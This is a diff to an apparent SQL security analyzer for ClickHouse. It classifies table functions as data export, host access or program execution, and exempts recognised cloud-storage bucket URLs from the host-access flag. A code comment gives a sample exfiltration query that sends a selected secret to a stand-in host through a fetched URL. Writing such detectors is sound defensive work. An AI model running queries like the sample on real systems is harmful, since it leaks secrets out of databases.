@@ -128,7 +128,8 @@ def _table_function(statement: _Statement, table: exp.Table, function: exp.Expr)
     if name in _READING_TABLE_FUNCTIONS and _computed_location(function):
         # `read_csv('http://x/?d=' || (SELECT secret ...))`: the request itself carries data out.
         statement.add(I.EXPORT, f"{name}() fetches a location built from query data")
-    if name in _READING_TABLE_FUNCTIONS and literal and _outside_workspace(literal):
+    outside = literal and _outside_workspace(literal) and not _bucket_endpoint(name, literal)
+    if name in _READING_TABLE_FUNCTIONS and outside:
         statement.add(I.HOST_ACCESS, f"{name}() reads {literal}, outside the working data")
     if name in _OTHER_SERVER_FUNCTIONS:
         statement.add(I.HOST_ACCESS, f"{name}() reaches another server or the host's files")
@@ -137,6 +138,21 @@ def _table_function(statement: _Statement, table: exp.Table, function: exp.Expr)
     if name in ("executable",):
         statement.add(I.HOST_ACCESS, f"{name}() runs a program on the server")
     _check_function(statement, function)
+
+
+# ClickHouse's object-storage functions take a bucket as an https URL of the provider's endpoint
+# (virtual-hosted or path style): reading it loads a bucket object, like `s3://bucket/key`. Any
+# other host (a metadata service, an internal web server) stays host access.
+_OBJECT_STORAGE_FUNCTIONS = frozenset({"s3", "s3cluster", "gcs", "azureblobstorage"})
+_OBJECT_STORAGE_URL = re.compile(
+    r"https://(?:[a-z0-9-]+\.)*(?:s3[a-z0-9.-]*\.amazonaws\.com|storage\.googleapis\.com"
+    r"|[a-z0-9]+\.blob\.core\.windows\.net)/",
+    re.IGNORECASE,
+)
+
+
+def _bucket_endpoint(name: str, location: str) -> bool:
+    return name in _OBJECT_STORAGE_FUNCTIONS and bool(_OBJECT_STORAGE_URL.match(location))
 
 
 # `file` is not here: ClickHouse reads it from its user_files folder, so a relative name is the
